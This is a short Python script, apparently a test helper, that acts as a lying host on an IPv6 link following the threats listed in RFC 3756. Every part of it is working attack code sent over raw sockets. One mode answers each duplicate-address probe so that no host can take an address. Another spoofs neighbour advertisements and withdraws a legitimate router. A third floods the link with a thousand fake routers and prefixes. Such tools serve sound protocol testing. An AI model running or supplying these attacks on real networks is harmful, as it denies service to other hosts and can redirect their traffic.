"""Someone on the link who lies (RFC 3756): liar.py DEVICE WHAT..., by frames of its own."""

import socket
import struct
import sys
import time

device, what = sys.argv[1], sys.argv[2]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD))
link.bind((device, 0x86DD))
MAC = bytes.fromhex("020000000066")
LINK_LOCAL = "fe80::66"


def packed(text):
    return socket.inet_pton(socket.AF_INET6, text)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(src, dst, kind, body, mac=b"\x33\x33\0\0\0\x01"):
    message = struct.pack("!BBH", kind, 0, 0) + body
    ends = packed(src) + packed(dst)
    pseudo = ends + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    header = struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + ends
    link.send(mac + MAC + b"\x86\xdd" + header + message)


def claim(target, flags):
    option = b"\x02\x01" + MAC
    send(target, "ff02::1", 136, struct.pack("!I", flags) + packed(target) + option)


def advertise(lifetime, src=LINK_LOCAL, options=b""):
    send(src, "ff02::1", 134, struct.pack("!BBHII", 64, 0, lifetime, 0, 0) + options)


def questions():
    """What others ask the link, as targets; none after half a second."""
    link.settimeout(0.5)
    while True:
        try:
            frame = link.recv(2048)
        except TimeoutError:
            return
        if len(frame) >= 78 and frame[20] == 58 and frame[54] == 135:
            yield frame[6:12], frame[22:38], frame[62:78]


print("ready", flush=True)
if what == "everything":  # claims whatever is asked for, for a time
    end = time.monotonic() + float(sys.argv[3])
    while time.monotonic() < end:
        for mac, src, target in questions():
            if mac != MAC and src == bytes(16):
                claim(socket.inet_ntop(socket.AF_INET6, target), 0x20000000)
elif what == "neighbour":  # claims an address again and again, and ends a router
    target, router = sys.argv[3:5]
    for _ in range(int(sys.argv[5])):
        claim(target, 0)
        claim(target, 0x40000000)
        advertise(0, router)
        time.sleep(0.05)
elif what == "routers":  # a thousand routers with prefixes of their own
    for i in range(1000):
        prefix = packed("2001:db8:%x::" % (i + 0x100))
        info = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 7200, 3600, 0) + prefix
        advertise(1, "fe80::%x" % (i + 0x1000), info)
print("done", flush=True)
